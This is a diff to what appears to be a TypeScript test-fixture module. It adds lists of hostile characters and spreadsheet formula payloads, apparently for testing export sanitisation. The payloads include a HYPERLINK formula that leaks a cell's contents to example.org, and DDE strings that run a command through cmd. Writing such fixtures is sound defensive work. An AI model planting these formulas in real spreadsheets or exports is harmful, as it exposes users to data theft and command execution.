@@ -33,3 +33,35 @@ export const UNSAFE_URLS = [
 ] as const;
 
 export const HOSTILE_STRINGS: readonly string[] = [...SCRIPT_PAYLOADS, ...UNICODE_PAYLOADS];
+
+/**
+ * Characters JSON allows in a string but XML (SVG, PowerPoint) does not, and
+ * that spreadsheets mishandle: C0 controls, noncharacters, lone surrogates.
+ */
+export const HOSTILE_CHARACTERS = [
+  '\u0000',
+  '\u0001',
+  '\u0008',
+  '\u000B',
+  '\u000C',
+  '\u001B',
+  '\u001F',
+  '\uFFFE',
+  '\uFFFF',
+  '\uD800',
+  '\uDBFF',
+  '\uDC00',
+  '\uDFFF',
+] as const;
+
+/** Cells a spreadsheet would evaluate as formulas if written as they are. */
+export const FORMULA_PAYLOADS = [
+  '=HYPERLINK("https://example.org/?leak="&A1,"Sources")',
+  '+cmd|" /C calc"!A0',
+  '-2+3+cmd|" /C calc"!A0',
+  '@SUM(1+1)*cmd|" /C calc"!A0',
+  '\t=1+1',
+  '\r=1+1',
+  ' =1+1',
+  '\uFF1D1+1',
+] as const;
